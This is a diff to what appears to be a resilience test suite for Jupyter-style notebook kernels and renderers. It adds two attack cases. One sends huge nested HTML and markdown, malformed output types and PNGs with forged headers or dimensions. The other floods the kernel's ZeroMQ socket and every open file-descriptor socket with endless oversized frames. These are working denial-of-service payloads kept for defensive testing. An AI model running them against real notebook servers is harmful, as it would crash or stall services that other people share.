@@ -369,6 +369,65 @@ WHOLE = (
         ),
     ),
     Attack(
+        # Each costs whoever cleans or draws it minutes, memory or an exception.
+        "B12-costly-and-odd-outputs",
+        opening=code(
+            """
+            import base64, io, random
+            from IPython.display import display
+            def show(**data):
+                data = {kind.replace("_", "/"): value for kind, value in data.items()}
+                display(data, raw=True)
+            show(text_html="<b>" * 20_000 + "<p>" * 60_000)
+            show(text_markdown="[" * 100_000 + "*" * 100_000)
+            for odd in (["x", 5], {"a": []}, 7, None, [[]] * 1000):
+                show(text_markdown=odd)
+                show(text_html=odd)
+                show(image_png=odd)
+            png = base64.b64decode(
+                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD"
+                "hgGAWjR9awAAAABJRU5ErkJggg=="
+            )
+            empty = bytes(4) + b"iCCP" + bytes(4)
+            show(image_png=base64.b64encode(png[:33] + empty + png[33:]).decode())
+            huge = png[:16] + (60_000).to_bytes(4, "big") * 2 + png[24:]
+            show(image_png=base64.b64encode(huge).decode())
+            """
+        ),
+    ),
+    Attack(
+        # A message that never ends, through libzmq and beside it.
+        "B12-parts-without-end",
+        write=_with_cells(
+            code(
+                """
+                import zmq
+                socket = get_ipython().kernel.iopub_socket
+                socket = getattr(socket, "io_thread", socket)
+                socket = getattr(socket, "socket", socket)
+                socket.setsockopt(zmq.SNDHWM, 0)
+                for _ in range(110):
+                    socket.send(bytes(8 << 20), zmq.SNDMORE)
+                """
+            ),
+            code(
+                """
+                import os, socket
+                frame = bytes([3]) + (1 << 20).to_bytes(8, "big") + bytes(1 << 20)
+                for name in os.listdir("/proc/self/fd"):
+                    try:
+                        one = socket.socket(fileno=os.dup(int(name)))
+                        one.getpeername()
+                        one.setblocking(False)
+                        for _ in range(2000):
+                            one.send(frame)
+                    except OSError:
+                        pass
+                """
+            ),
+        ),
+    ),
+    Attack(
         "B12-thread-floods-throughout",
         opening=code(
             """
